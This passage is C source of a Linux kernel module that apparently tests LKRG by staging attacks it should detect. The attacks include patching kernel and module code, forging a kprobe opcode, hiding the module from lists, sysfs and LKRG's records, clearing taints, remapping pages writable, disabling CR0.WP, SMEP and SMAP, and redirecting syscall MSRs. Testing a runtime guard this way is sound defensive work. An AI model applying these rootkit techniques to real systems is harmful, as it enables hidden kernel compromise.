		(void *)text_poke_at;
	struct mutex *const lock = (void *)text_mutex_at;

	if (!poke || !lock)
		return -EOPNOTSUPP;
	mutex_lock(lock);
	poke(at, from, size);
	mutex_unlock(lock);
	return 0;
}

static int write_by_poke_bp(void *at, const void *from, size_t size)
{
	void (*poke)(void *addr, const void *opcode, size_t len,
		     const void *emulate) = (void *)text_poke_bp_at;
	struct mutex *const lock = (void *)text_mutex_at;

	if (!poke || !lock)
		return -EOPNOTSUPP;
	mutex_lock(lock);
	poke(at, from, size, NULL);
	mutex_unlock(lock);
	return 0;
}

typedef int write_t(void *at, const void *from, size_t size);

static int change_to(struct change *change, void *at, const u8 *new,
		     size_t size, write_t *write)
{
	u8 found[CHANGE_MAX];
	int err;

	if (change->size)
		return -EBUSY;

	/* The compiler may know that this never changes */
	OPTIMIZER_HIDE_VAR(at);
	memcpy(change->old, at, size);
	err = write(at, new, size);
	if (err)
		return err;

	change->at = at;
	change->size = size;

	/* What is found there now, through the mapping that the kernel uses */
	memcpy(found, at, size);
	snprintf(changed, sizeof(changed), "%pS: %*ph -> %*ph", at, (int)size,
		 change->old, (int)size, found);
	return 0;
}

static int flip_by(struct change *change, void *at, size_t size, u8 mask,
		   write_t *write)
{
	u8 new[CHANGE_MAX];
	size_t i;

	OPTIMIZER_HIDE_VAR(at);
	memcpy(new, at, size);
	for (i = 0; i < size; i++)
		new[i] ^= mask;
	return change_to(change, at, new, size, write);
}

static int flip(struct change *change, void *at, size_t size, u8 mask)
{
	return flip_by(change, at, size, mask, write_through_alias);
}

static int restore(struct change *change)
{
	int err;

	if (!change->size)
		return -ENOENT;

	err = write_through_alias(change->at, change->old, change->size);
	if (err)
		return err;

	change->size = 0;
	changed[0] = '\0';
	return 0;
}

/*
 * kernel_halt() runs once, when the machine is halted.  Its first bytes are
 * left alone: they may be a place that function tracing patches.
 */
static void *victim_text(void)
{
	return PTR_ALIGN((void *)kernel_halt + CHANGE_MAX, CHANGE_MAX);
}

static int flip_text(struct task_struct *task, size_t field)
{
	return flip(&text_change, victim_text(), 1, 0x01);
}

/* As much as a jump to anywhere takes, right behind what function tracing patches */
static int flip_text_head(struct task_struct *task, size_t field)
{
	void *const at = victim_text() - CHANGE_MAX + ENDBR_INSN_SIZE + CALL_INSN_SIZE;

	return flip(&text_change, at, 12, 0xff);
}

static int flip_text_words(struct task_struct *task, size_t field)
{
	return flip(&text_change, victim_text(), CHANGE_MAX, 0xff);
}

/* One bit somewhere in functions that run when the machine stops, if at all */
static int flip_text_bit(struct task_struct *task, size_t field)
{
	void *const idle[] = { kernel_halt, kernel_power_off, kernel_restart };
	u8 *const at = PTR_ALIGN(idle[get_random_u32_below(ARRAY_SIZE(idle))] +
				 CHANGE_MAX, CHANGE_MAX);

	return flip(&text_change, at + get_random_u32_below(2 * CHANGE_MAX), 1,
		    BIT(get_random_u32_below(BITS_PER_BYTE)));
}

/* By the function that may write to text, which does not ask who calls it. */
static int poke_text(struct task_struct *task, size_t field)
{
	return flip_by(&text_change, victim_text(), 1, 0x01, write_by_poke);
}

/* What somebody calls who should call something else */
static noinline __used int lkrg_attack_agree(void)
{
	return 0;
}

static const u8 nop2[] = { BYTES_NOP2 };
static const u8 nop5[] = { BYTES_NOP5 };

/* Where the kernel may patch: the place in kernel_halt() for function tracing. */
static int patch_traced(u8 opcode, const void *to)
{
	void *at = kernel_halt;
	u8 insn[CALL_INSN_SIZE];

	OPTIMIZER_HIDE_VAR(at);
	if (is_endbr(*(u32 *)at))
		at += ENDBR_INSN_SIZE;
	if (memcmp(at, nop5, CALL_INSN_SIZE))
		return -EOPNOTSUPP;
	__text_gen_insn(insn, opcode, at, to, CALL_INSN_SIZE);
	return change_to(&text_change, at, insn, sizeof(insn), write_by_poke_bp);
}

/* A call that leads to what is no text. */
static int patch_traced_data(struct task_struct *task, size_t field)
{
	return patch_traced(CALL_INSN_OPCODE, changed);
}

/* A jump, which is not what is to be there, and of which each byte differs. */
static int patch_traced_jump(struct task_struct *task, size_t field)
{
	return patch_traced(JMP32_INSN_OPCODE, kernel_halt - PAGE_SIZE);
}

/* A call of a function, which belongs to somebody, but does not trace it. */
static int patch_traced_function(struct task_struct *task, size_t field)
{
	return patch_traced(CALL_INSN_OPCODE, (void *)lkrg_attack_agree);
}

/* A call of a function, where no call is to be. */
static int patch_elsewhere(struct task_struct *task, size_t field)
{
	void *const at = victim_text();
	u8 insn[CALL_INSN_SIZE];

	__text_gen_insn(insn, CALL_INSN_OPCODE, at, kernel_restart,
			CALL_INSN_SIZE);
	return change_to(&text_change, at, insn, sizeof(insn), write_by_poke_bp);
}

static int restore_text(struct task_struct *task, size_t field)
{
	return restore(&text_change);
}

/* Meanwhile an upper case hexadecimal "A" is printed as "a". */
static int flip_rodata(struct task_struct *task, size_t field)
{
	return flip(&rodata_change, (void *)&hex_asc_upper[0xa], 1, 'A' ^ 'a');
}

/* Where the last one of the instructions that may fault goes on if it does */
static unsigned long extable_end;
module_param_named(__stop___ex_table, extable_end, ulong, 0400);
MODULE_PARM_DESC(__stop___ex_table, "Address of that symbol");

static int flip_extable(struct task_struct *task, size_t field)
{
	struct exception_table_entry *const end = (void *)extable_end;

	if (!end)
		return -EOPNOTSUPP;
	return flip(&rodata_change, &end[-1].fixup, 1, 0x01);
}

/* The end of its last page, which nobody runs */
static unsigned long vdso_image_64_at;
module_param_named(vdso_image_64, vdso_image_64_at, ulong, 0400);
MODULE_PARM_DESC(vdso_image_64, "Address of that object");

static int flip_vdso(struct task_struct *task, size_t field)
{
	const struct vdso_image *const image = (void *)vdso_image_64_at;

	if (!image)
		return -EOPNOTSUPP;
	return flip(&rodata_change, image->data + image->size - 1, 1, 0x01);
}

static int restore_rodata(struct task_struct *task, size_t field)
{
	return restore(&rodata_change);
}

/* === This module ======================================================== */

/* Nobody calls it.  Its first bytes are a place that function tracing patches. */
static noinline __used u64 lkrg_attack_idle(u64 x)
{
	int i;

	for (i = 0; i < 64; i++)
		x = x * 6364136223846793005ULL + (x >> 33);
	return x;
}

/* Nobody looks at them. */
static const u8 lkrg_attack_constant[CHANGE_MAX] __used = { 1 };
static u8 lkrg_attack_late[CHANGE_MAX] __used __ro_after_init = { 1 };

static int flip_module_text(struct task_struct *task, size_t field)
{
	return flip(&module_text_change,
		    PTR_ALIGN((void *)lkrg_attack_idle + CHANGE_MAX, CHANGE_MAX),
		    1, 0x01);
}

/* One bit somewhere behind those */
static int flip_module_text_bit(struct task_struct *task, size_t field)
{
	u8 *const at = PTR_ALIGN((void *)lkrg_attack_idle + CHANGE_MAX, CHANGE_MAX);

	return flip(&module_text_change,
		    at + get_random_u32_below(2 * CHANGE_MAX), 1,
		    BIT(get_random_u32_below(BITS_PER_BYTE)));
}

/* Nobody calls it.  What it jumps to when the key is on is what counts. */
static DEFINE_STATIC_KEY_FALSE(lkrg_attack_key);

static noinline __used u64 lkrg_attack_branch(u64 x)
{
	return static_branch_unlikely(&lkrg_attack_key) ? lkrg_attack_idle(x) : x;
}

static int patch_label(struct task_struct *task, size_t field)
{
	const struct jump_entry *const entry = THIS_MODULE->jump_entries;
	unsigned int i;

	for (i = 0; i < THIS_MODULE->num_jump_entries; i++) {
		void *const at = (void *)jump_entry_code(&entry[i]);
		const void *const to = (void *)jump_entry_target(&entry[i]);
		u8 insn[JMP32_INSN_SIZE];

		if (jump_entry_key(&entry[i]) != &lkrg_attack_key.key)
			continue;
		if (!memcmp(at, nop2, JMP8_INSN_SIZE)) {
			__text_gen_insn(insn, JMP8_INSN_OPCODE, at, to + 1,
					JMP8_INSN_SIZE);
			return change_to(&module_text_change, at, insn,
					 JMP8_INSN_SIZE, write_by_poke_bp);
		}
		__text_gen_insn(insn, JMP32_INSN_OPCODE, at, to + 1,
				JMP32_INSN_SIZE);
		return change_to(&module_text_change, at, insn,
				 JMP32_INSN_SIZE, write_by_poke_bp);
	}
	return -EOPNOTSUPP;
}

#ifdef CONFIG_KPROBES
static ulong get_kprobe_at;
module_param_named(get_kprobe, get_kprobe_at, ulong, 0400);
MODULE_PARM_DESC(get_kprobe, "Address of that function");

static noinline __used u64 lkrg_attack_probed(u64 x)
{
	return x * x + 1;
}

static int see_probe(struct kprobe *probe, struct pt_regs *regs)
{
	return 0;
}

/* With it the probe stays a breakpoint. */
static void see_probe_after(struct kprobe *probe, struct pt_regs *regs,
			    unsigned long flags)
{
}

/* Behind what is there for function tracing */
static struct kprobe restored_probe = {
	.symbol_name = "lkrg_attack_probed",
	.offset = 9,
	.pre_handler = see_probe,
	.post_handler = see_probe_after,
};

/*
 * When a probe goes, the kernel writes back what it has kept; nobody calls the function.
 * The breakpoint is what is declared to be there afterwards.
 */
static int forge_opcode(struct task_struct *task, size_t field)
{
	struct kprobe *(*const get)(void *addr) = (void *)get_kprobe_at;
	struct change *const change = &module_text_change;
	struct kprobe *probe;
	u8 *at;
	int err;

	if (!get)
		return -ENOENT;
	if (change->size)
		return -EBUSY;
	restored_probe.addr = NULL;
	restored_probe.flags = 0;
	err = register_kprobe(&restored_probe);
	if (err)
		return err;
	at = (u8 *)restored_probe.addr;
	preempt_disable();
	probe = get(at);
	if (probe)
		probe->opcode ^= 0x01;
	preempt_enable();
	unregister_kprobe(&restored_probe);
	change->at = at;
	change->size = 1;
	change->old[0] = INT3_INSN_OPCODE;
	snprintf(changed, sizeof(changed), "%pS: %*ph -> %*ph", at, 1, change->old,
		 1, at);
	return probe ? 0 : -ESRCH;
}
#else
static int forge_opcode(struct task_struct *task, size_t field)
{
	return -EOPNOTSUPP;
}
#endif

static int restore_module_text(struct task_struct *task, size_t field)
{
	return restore(&module_text_change);
}

static int flip_module_rodata(struct task_struct *task, size_t field)
{
	return flip(&module_rodata_change, (void *)lkrg_attack_constant, 1, 0x01);
}

static int flip_module_extable(struct task_struct *task, size_t field)
{
	const unsigned long rodata = (unsigned long)THIS_MODULE->mem[MOD_RODATA].base;
	struct change *const change = &module_rodata_change;
	const u8 *at;
	int err;

	if (!THIS_MODULE->num_exentries)
		return -EOPNOTSUPP;
	at = (u8 *)&THIS_MODULE->extable[THIS_MODULE->num_exentries - 1].fixup;
	err = flip(change, (void *)at, 1, 0x01);
	/* Where there is no symbol before it, it is an address. */
	if (!err && strstarts(changed, "0x"))
		snprintf(changed, sizeof(changed), "rodata+%#lx [%s]: %*ph -> %*ph",
			 (unsigned long)at - (rodata & PAGE_MASK), KBUILD_MODNAME, 1,
			 change->old, 1, at);
	return err;
}

static int restore_module_rodata(struct task_struct *task, size_t field)
{
	return restore(&module_rodata_change);
}

static int flip_module_late(struct task_struct *task, size_t field)
{
	return flip(&module_late_change, lkrg_attack_late, 1, 0x01);
}

static int restore_module_late(struct task_struct *task, size_t field)
{
	return restore(&module_late_change);
}

/* Its neighbour in the list of modules, while it is not in it. */
static struct list_head *neighbour;

static int hide_module(struct task_struct *task, size_t field)
{
	if (neighbour)
		return -EBUSY;
	neighbour = THIS_MODULE->list.prev;
	list_del_rcu(&THIS_MODULE->list);
	return 0;
}

/* Those who list what is in sysfs do not come by either. */
static int hide_module_everywhere(struct task_struct *task, size_t field)
{
	struct kobject *const kobj = &THIS_MODULE->mkobj.kobj;
	int err = hide_module(task, field);

	if (err)
		return err;
	spin_lock(&kobj->kset->list_lock);
	list_del_init(&kobj->entry);
	spin_unlock(&kobj->kset->list_lock);
	return 0;
}

static int hide_module_state(struct task_struct *task, size_t field)
{
	THIS_MODULE->state = MODULE_STATE_UNFORMED;
	return 0;
}

/* It is found by its address, but not by that of its text. */
static ulong mod_tree_at;
module_param_named(mod_tree, mod_tree_at, ulong, 0400);
MODULE_PARM_DESC(mod_tree, "Address of that object");

static bool text_is_hidden;

static bool is_below(struct latch_tree_node *a, struct latch_tree_node *b)
{
	return container_of(a, struct module_memory, mtn.node)->base <
	       container_of(b, struct module_memory, mtn.node)->base;
}

static const struct latch_tree_ops mod_tree_ops = {
	.less = is_below,
};

static int hide_module_text(struct task_struct *task, size_t field)
{
	struct module_memory *const text = &THIS_MODULE->mem[MOD_TEXT];

	if (!mod_tree_at)
		return -ENOENT;
	if (text_is_hidden)
		return -EBUSY;
	latch_tree_erase(&text->mtn.node, (struct latch_tree_root *)mod_tree_at,
			 &mod_tree_ops);
	text_is_hidden = true;
	return 0;
}

static void show_module_text(void)
{
	struct module_memory *const text = &THIS_MODULE->mem[MOD_TEXT];

	if (text_is_hidden)
		latch_tree_insert(&text->mtn.node,
				  (struct latch_tree_root *)mod_tree_at, &mod_tree_ops);
	text_is_hidden = false;
}

/* See struct mod_tree_root. */
struct module_bounds {
	struct latch_tree_root root;
	unsigned long first;
	unsigned long last;
};

static unsigned long last_before;

static int hide_module_bounds(struct task_struct *task, size_t field)
{
	struct module_bounds *const bounds = (void *)mod_tree_at;

	if (!bounds)
		return -ENOENT;
	if (last_before)
		return -EBUSY;
	last_before = bounds->last;
	WRITE_ONCE(bounds->last, bounds->first);
	return 0;
}

static void show_module_bounds(void)
{
	struct module_bounds *const bounds = (void *)mod_tree_at;

	if (last_before)
		WRITE_ONCE(bounds->last, last_before);
	last_before = 0;
}

static int hide_module_sysfs(struct task_struct *task, size_t field)
{
	struct kobject *const kobj = &THIS_MODULE->mkobj.kobj;

	spin_lock(&kobj->kset->list_lock);
	list_del_init(&kobj->entry);
	spin_unlock(&kobj->kset->list_lock);
	return 0;
}

static void stay(struct work_struct *work)
{
	THIS_MODULE->state = MODULE_STATE_LIVE;
}

/* Until then nobody can ask for anything. */
static DECLARE_DELAYED_WORK(stay_work, stay);

static int hide_module_going(struct task_struct *task, size_t field)
{
	schedule_delayed_work(&stay_work, 15 * HZ);
	THIS_MODULE->state = MODULE_STATE_GOING;
	return 0;
}

/* It does not say any more what it is. */
static unsigned long taints_before;

static int clear_module_taints(struct task_struct *task, size_t field)
{
	if (!THIS_MODULE->taints)
		return -EBUSY;
	taints_before = THIS_MODULE->taints;
	THIS_MODULE->taints = 0;
	return 0;
}

/* Where its functions can be traced, in memory that can be written */
static unsigned long *callsites, *callsites_before;

static int redirect_module_tables(struct task_struct *task, size_t field)
{
#ifdef CONFIG_DYNAMIC_FTRACE
	if (callsites)
		return -EBUSY;
	callsites_before = THIS_MODULE->ftrace_callsites;
	callsites = kmemdup(callsites_before, THIS_MODULE->num_ftrace_callsites *
			    sizeof(*callsites), GFP_KERNEL);
	if (!callsites)
		return -ENOMEM;
	THIS_MODULE->ftrace_callsites = callsites;
	return 0;
#else
	return -EOPNOTSUPP;
#endif
}

static void restore_module_tables(void)
{
#ifdef CONFIG_DYNAMIC_FTRACE
	if (callsites)
		THIS_MODULE->ftrace_callsites = callsites_before;
	kfree(callsites);
	callsites = NULL;
#endif
}

static ulong module_inventory;
module_param(module_inventory, ulong, 0400);
MODULE_PARM_DESC(module_inventory, "Address of that list");

static struct list_head *entry, *entry_before;

/* What is in an entry only lkrg knows: the module is not far behind its node */
static int hide_module_entry(struct task_struct *task, size_t field)
{
	struct list_head *const list = (void *)module_inventory;
	struct list_head *node;
	size_t i;

	if (!list)
		return -ENOENT;
	list_for_each(node, list) {
		for (i = 2; i < 8; i++) {
			if (((ulong *)node)[i] != (ulong)THIS_MODULE)
				continue;
			entry = node;
			entry_before = node->prev;
			list_del_init(node);
			return 0;
		}
	}
	return -ESRCH;
}

static ulong module_places;
module_param(module_places, ulong, 0400);
MODULE_PARM_DESC(module_places, "Address of that tree");

/* Behind the node there are two pointers, and then where the place begins */
#define PLACE_START(node) (((ulong *)((node) + 1))[2])

static bool place_is_below(struct latch_tree_node *a, struct latch_tree_node *b)
{
	return PLACE_START(a) < PLACE_START(b);
}

static const struct latch_tree_ops place_ops = {
	.less = place_is_below,
};

static struct latch_tree_node *place;

/* Text of the module is not in the guard's own tree. */
static int hide_module_place(struct task_struct *task, size_t field)
{
	struct latch_tree_root *const tree = (void *)module_places;
	struct rb_node *node;

	if (!tree)
		return -ENOENT;
	if (place)
		return -EBUSY;
	for (node = rb_first(&tree->tree[0]); node; node = rb_next(node)) {
		struct latch_tree_node *found =
			rb_entry(node, struct latch_tree_node, node[0]);

		if (PLACE_START(found) != (ulong)THIS_MODULE->mem[MOD_TEXT].base)
			continue;
		latch_tree_erase(found, tree, &place_ops);
		place = found;
		return 0;
	}
	return -ESRCH;
}

static void show_place(void)
{
	if (place)
		latch_tree_insert(place, (struct latch_tree_root *)module_places,
				  &place_ops);
	place = NULL;
}

static int show_module(struct task_struct *task, size_t field)
{
	struct kobject *const kobj = &THIS_MODULE->mkobj.kobj;

	spin_lock(&kobj->kset->list_lock);
	if (list_empty(&kobj->entry))
		list_add_tail(&kobj->entry, &kobj->kset->list);
	spin_unlock(&kobj->kset->list_lock);
	if (neighbour)
		list_add_rcu(&THIS_MODULE->list, neighbour);
	neighbour = NULL;
	if (entry)
		list_add(entry, entry_before);
	entry = NULL;
	show_place();
	THIS_MODULE->state = MODULE_STATE_LIVE;
	if (!THIS_MODULE->taints)
		THIS_MODULE->taints = taints_before;
	show_module_bounds();
	show_module_text();
	restore_module_tables();
	return 0;
}

/* === Page tables ======================================================== */

/* The entry that maps the victim, a large page or not, as it was */
static pte_t *mapped_by;
static pteval_t mapped_before;

static int change_entry(unsigned long addr, pteval_t set, pteval_t clear)
{
	unsigned int level;
	pte_t *const entry = lookup_address(addr, &level);

	if (mapped_by)
		return -EBUSY;
	if (!entry)
		return -EFAULT;
	mapped_before = pte_val(*entry);
	WRITE_ONCE(entry->pte, (mapped_before | set) & ~clear);
	mapped_by = entry;
	/* Here it shows whether it works. */
	if (set & _PAGE_RW)
		WRITE_ONCE(*(u8 *)addr, READ_ONCE(*(u8 *)addr));
	snprintf(changed, sizeof(changed), "%lu pages: %s",
		 page_level_size(level) / PAGE_SIZE,
		 set ? "writable" : "executable");
	return 0;
}

static int map_text_writable(struct task_struct *task, size_t field)
{
	return change_entry((unsigned long)victim_text(), _PAGE_RW, 0);
}

static int map_rodata_writable(struct task_struct *task, size_t field)
{
	return change_entry((unsigned long)&hex_asc_upper[0xa], _PAGE_RW, 0);
}

static int map_module_text_writable(struct task_struct *task, size_t field)
{
	return change_entry((unsigned long)lkrg_attack_idle, _PAGE_RW, 0);
}

static int map_module_rodata_executable(struct task_struct *task, size_t field)
{
	return change_entry((unsigned long)lkrg_attack_constant, 0, _PAGE_NX);
}

static int map_module_rodata_writable(struct task_struct *task, size_t field)
{
	return change_entry((unsigned long)lkrg_attack_constant, _PAGE_RW, 0);
}

static int map_module_late_writable(struct task_struct *task, size_t field)
{
	return change_entry((unsigned long)lkrg_attack_late, _PAGE_RW, 0);
}

/* The same memory, where all memory is mapped */
static unsigned long linear_address(void *at)
{
	return (unsigned long)(is_vmalloc_or_module_addr(at) ?
		page_address(vmalloc_to_page(at)) + offset_in_page(at) :
		__va(__pa_symbol(at)));
}

static int map_text_linear_writable(struct task_struct *task, size_t field)
{
	return change_entry(linear_address(victim_text()), _PAGE_RW, 0);
}

static int map_rodata_linear_writable(struct task_struct *task, size_t field)
{
	return change_entry(linear_address((void *)&hex_asc_upper[0xa]), _PAGE_RW, 0);
}

static int map_module_text_linear_writable(struct task_struct *task, size_t field)
{
	return change_entry(linear_address(lkrg_attack_idle), _PAGE_RW, 0);
}

static ulong set_memory_rox_at;
module_param_named(set_memory_rox, set_memory_rox_at, ulong, 0400);
MODULE_PARM_DESC(set_memory_rox, "Address of that function");

static ulong set_memory_nx_at;
module_param_named(set_memory_nx, set_memory_nx_at, ulong, 0400);
MODULE_PARM_DESC(set_memory_nx, "Address of that function");

static ulong set_memory_rw_at;
module_param_named(set_memory_rw, set_memory_rw_at, ulong, 0400);
MODULE_PARM_DESC(set_memory_rw, "Address of that function");

static int set_page(ulong function_at, void *page)
{
	int (*const function)(ulong addr, int pages) = (void *)function_at;

	return function ? function((ulong)page, 1) : -ENOENT;
}

/* What is mapped instead of text of the module, NULL if nothing is */
static void *moved_to;

static void forget_translation(void *unused)
{
	asm volatile("invlpg (%0)" : : "r" (lkrg_attack_idle) : "memory");
}

/* The same bytes, where somebody may change them later without being seen here */
static int map_module_text_elsewhere(struct task_struct *task, size_t field)
{
	void *const page = PTR_ALIGN_DOWN((void *)lkrg_attack_idle, PAGE_SIZE);
	unsigned int level;
	pte_t *const entry = lookup_address((ulong)page, &level);
	int err;

	if (mapped_by)
		return -EBUSY;
	if (!entry || level != PG_LEVEL_4K)
		return -EFAULT;
	moved_to = (void *)__get_free_page(GFP_KERNEL);
	if (!moved_to)
		return -ENOMEM;
	memcpy(moved_to, page, PAGE_SIZE);
	/* As text is there */
	err = set_page(set_memory_rox_at, moved_to) ?: set_page(set_memory_nx_at, moved_to);
	if (err) {
		free_page((ulong)moved_to);
		moved_to = NULL;
		return err;
	}
	mapped_before = pte_val(*entry);
	WRITE_ONCE(entry->pte, (mapped_before & ~PTE_PFN_MASK) | __pa(moved_to));
	on_each_cpu(forget_translation, NULL, 1);
	mapped_by = entry;
	if (vmalloc_to_page(page) != virt_to_page(moved_to))
		return -EIO;
	snprintf(changed, sizeof(changed), "1 pages: moved");
	return 0;
}

static int map_as_before(struct task_struct *task, size_t field)
{
	if (!mapped_by)
		return -ENOENT;
	WRITE_ONCE(mapped_by->pte, mapped_before);
	mapped_by = NULL;
	if (moved_to) {
		on_each_cpu(forget_translation, NULL, 1);
		set_page(set_memory_rw_at, moved_to);
		free_page((ulong)moved_to);
	}
	moved_to = NULL;
	changed[0] = '\0';
	return 0;
}

/* === CPUs =============================================================== */

/* Where it is */
enum where {
	IN_MSR,
	IN_CR0,
	IN_CR4,
	IN_XCR0,
	IN_DR7,
	IN_IDTR,
	IN_GDTR,
	IN_GDT,
	IN_TSS,
	IN_SP0,
	IN_PRESENT,
	IN_ACTIVE,
	IN_RECORD,
};

/* Parts of IDTR and GDTR */
enum part {
	TABLE_BASE,
	TABLE_LIMIT,
};

/* How the guard shows it */
enum shown {
	BIT_SHOWN,
	HEX_SHOWN,
	ADDRESS_SHOWN,
	NOT_SHOWN,
};

/**
 * struct cpu_attack - What is changed on one CPU, which is not the first one
 * @name: What the guard calls it
 * @where: Where it is
 * @number: Which one it is there
 * @clear: Bits that are cleared
 * @set: Bits that are set then
 * @shown: How the guard shows it
 * @deadly: In user space, and where tasks are switched: the CPU stays away from it
 */
struct cpu_attack {
	const char *name;
	enum where where;
	u32 number;
	u64 clear;
	u64 set;
	enum shown shown;
	bool deadly;
};

/* Every system call of the CPU goes through here, and to where it should go */
static u64 lkrg_attack_entry_to __used;
static notrace __used __attribute__((__naked__)) void lkrg_attack_entry(void)
{
	asm volatile(ANNOTATE_RETPOLINE_SAFE
		     "jmp *lkrg_attack_entry_to(%rip)\n\t"
		     "int3");
}

static const struct cpu_attack cpu_attacks[] = {
	{ "LSTAR", IN_MSR, MSR_LSTAR, ~0ULL, (ulong)lkrg_attack_entry,
	  ADDRESS_SHOWN },
	{ "CSTAR", IN_MSR, MSR_CSTAR, ~0ULL, (ulong)lkrg_attack_entry,
	  ADDRESS_SHOWN },
	{ "STAR", IN_MSR, MSR_STAR, 0, 1, HEX_SHOWN },
	{ "SFMASK", IN_MSR, MSR_SYSCALL_MASK, X86_EFLAGS_AC, 0, HEX_SHOWN },
	{ "SYSENTER_EIP", IN_MSR, MSR_IA32_SYSENTER_EIP, ~0ULL,
	  (ulong)lkrg_attack_entry, ADDRESS_SHOWN },
	{ "SYSENTER_ESP", IN_MSR, MSR_IA32_SYSENTER_ESP, ~0ULL, 0x1000,
	  NOT_SHOWN },
	{ "SYSENTER_CS", IN_MSR, MSR_IA32_SYSENTER_CS, 0, __USER_CS,
	  HEX_SHOWN },
	{ "EFER.SCE", IN_MSR, MSR_EFER, EFER_SCE, 0, BIT_SHOWN, true },
	{ "PAT", IN_MSR, MSR_IA32_CR_PAT, 0xffULL << 56, 6ULL << 56, HEX_SHOWN },
	{ "CR0.WP", IN_CR0, 0, X86_CR0_WP, 0, BIT_SHOWN },
	{ "CR4.SMEP", IN_CR4, 0, X86_CR4_SMEP, 0, BIT_SHOWN },
	{ "CR4.SMAP", IN_CR4, 0, X86_CR4_SMAP, 0, BIT_SHOWN },
	{ "CR4.UMIP", IN_CR4, 0, X86_CR4_UMIP, 0, BIT_SHOWN },
	{ "CR4.FSGSBASE", IN_CR4, 0, X86_CR4_FSGSBASE, 0, BIT_SHOWN, true },
	{ "CR4.PKE", IN_CR4, 0, X86_CR4_PKE, 0, BIT_SHOWN, true },
	{ "XCR0", IN_XCR0, 0, XFEATURE_MASK_PKRU, 0, HEX_SHOWN, true },
	{ "DR1", IN_DR7, 1, 0, (ulong)kernel_halt, ADDRESS_SHOWN },
	{ "IDTR base", IN_IDTR, TABLE_BASE, 0, 0, NOT_SHOWN },
	/* Without the last gate */
	{ "IDTR limit", IN_IDTR, TABLE_LIMIT, sizeof(gate_desc), 0, HEX_SHOWN },
	{ "GDTR base", IN_GDTR, TABLE_BASE, 0, 0, NOT_SHOWN },
	{ "GDTR limit", IN_GDTR, TABLE_LIMIT, 0, 0xf00, HEX_SHOWN },
	{ "GDT 32-bit kernel code", IN_GDT, GDT_ENTRY_KERNEL32_CS, 0,
	  BIT_ULL(52), HEX_SHOWN },
	{ "TSS ist7", IN_TSS, 6, ~0ULL, (ulong)lkrg_attack_entry, NOT_SHOWN },
	{ "present", IN_PRESENT, 0, 1, 0, BIT_SHOWN },
	{ "active", IN_ACTIVE, 0, 1, 0, BIT_SHOWN },
	{ "DR0", IN_DR7, 0, 0, (ulong)kernel_halt, ADDRESS_SHOWN },
	{ "DR2", IN_DR7, 2, 0, (ulong)kernel_halt, ADDRESS_SHOWN },
	{ "DR3", IN_DR7, 3, 0, (ulong)kernel_halt, ADDRESS_SHOWN },
	/* The bit that is there for software */
	{ "GDT kernel code", IN_GDT, GDT_ENTRY_KERNEL_CS, 0, BIT_ULL(52), HEX_SHOWN },
	{ "GDT kernel data", IN_GDT, GDT_ENTRY_KERNEL_DS, 0, BIT_ULL(52), HEX_SHOWN },
	{ "GDT 32-bit user code", IN_GDT, GDT_ENTRY_DEFAULT_USER32_CS, 0,
	  BIT_ULL(52), HEX_SHOWN },
	{ "GDT user data", IN_GDT, GDT_ENTRY_DEFAULT_USER_DS, 0, BIT_ULL(52),
	  HEX_SHOWN },
	{ "GDT user code", IN_GDT, GDT_ENTRY_DEFAULT_USER_CS, 0, BIT_ULL(52),
	  HEX_SHOWN },
	{ "TSS ist1", IN_TSS, 0, ~0ULL, (ulong)lkrg_attack_entry, NOT_SHOWN },
	{ "TSS ist2", IN_TSS, 1, ~0ULL, (ulong)lkrg_attack_entry, NOT_SHOWN },
	{ "TSS ist3", IN_TSS, 2, ~0ULL, (ulong)lkrg_attack_entry, NOT_SHOWN },
	{ "TSS ist4", IN_TSS, 3, ~0ULL, (ulong)lkrg_attack_entry, NOT_SHOWN },
	{ "TSS ist5", IN_TSS, 4, ~0ULL, (ulong)lkrg_attack_entry, NOT_SHOWN },
	{ "TSS ist6", IN_TSS, 5, ~0ULL, (ulong)lkrg_attack_entry, NOT_SHOWN },
	{ "record of lkrg", IN_RECORD, 0, 1, 0, BIT_SHOWN },
	{ "TSS sp0", IN_SP0, 0, ~0ULL, (ulong)lkrg_attack_entry, NOT_SHOWN, true },
	/* An emulated one answers where it was nevertheless. */
	{ "APIC_BASE", IN_MSR, MSR_IA32_APICBASE, 0, PAGE_SIZE, HEX_SHOWN },
};

static ulong cpu_records_at;
module_param_named(cpu_records, cpu_records_at, ulong, 0400);
MODULE_PARM_DESC(cpu_records, "Address of that object");

/* Behind two words and four for breakpoints; nothing but the tag tells of it. */
#define RECORD_WORD	6

static bool record_is_forged;

static void forge_record(unsigned int cpu, bool forge)
{
	u64 __percpu *records;

	if (!cpu_records_at || forge == record_is_forged)
		return;
	records = *(u64 __percpu **)cpu_records_at;
	per_cpu_ptr(records, cpu)[RECORD_WORD] ^= BIT_ULL(63);
	record_is_forged = forge;
}

static const struct cpu_attack *cpu_changed;
static unsigned int cpu_of_change;
static u64 cpu_before;

/* Each of the tables has a page to itself. */
static u8 table_copy[PAGE_SIZE] __aligned(PAGE_SIZE);

static struct desc_ptr read_table(const struct cpu_attack *attack)
{
	struct desc_ptr table;

	if (attack->where == IN_IDTR)
		store_idt(&table);
	else
		native_store_gdt(&table);
	return table;
}

static void write_table(const struct cpu_attack *attack, u64 value)
{
	struct desc_ptr table = read_table(attack);

	if (attack->number == TABLE_LIMIT)
		table.size = value;
	else
		table.address = value;
	if (attack->where == IN_IDTR)
		native_load_idt(&table);
	else
		native_load_gdt(&table);
}

/* On the CPU itself, and by no function that would refuse it */
static u64 read_register(const struct cpu_attack *attack, unsigned int cpu)
{
	const struct desc_struct *gdt = get_cpu_gdt_rw(cpu);
	struct desc_ptr table;
	u64 value = 0;

	switch (attack->where) {
	case IN_MSR:
		rdmsrl_safe(attack->number, &value);
		break;
	case IN_CR0:
		asm volatile("mov %%cr0, %0" : "=r" (value));
		break;
	case IN_CR4:
		asm volatile("mov %%cr4, %0" : "=r" (value));
		break;
	case IN_DR7:
		value = native_get_debugreg(7) & BIT(2 * attack->number) ?
			native_get_debugreg(attack->number) : 0;
		break;
	case IN_XCR0:
		if (boot_cpu_has(X86_FEATURE_OSXSAVE))
			value = xgetbv(XCR_XFEATURE_ENABLED_MASK);
		break;
	case IN_IDTR:
	case IN_GDTR:
		table = read_table(attack);
		value = attack->number == TABLE_LIMIT ? table.size : table.address;
		break;
	case IN_GDT:
		memcpy(&value, &gdt[attack->number], sizeof(value));
		break;
	case IN_TSS:
		value = per_cpu(cpu_tss_rw, cpu).x86_tss.ist[attack->number];
		break;
	case IN_SP0:
		value = per_cpu(cpu_tss_rw, cpu).x86_tss.sp0;
		break;
	case IN_PRESENT:
		return cpumask_test_cpu(cpu, &__cpu_present_mask);
	case IN_ACTIVE:
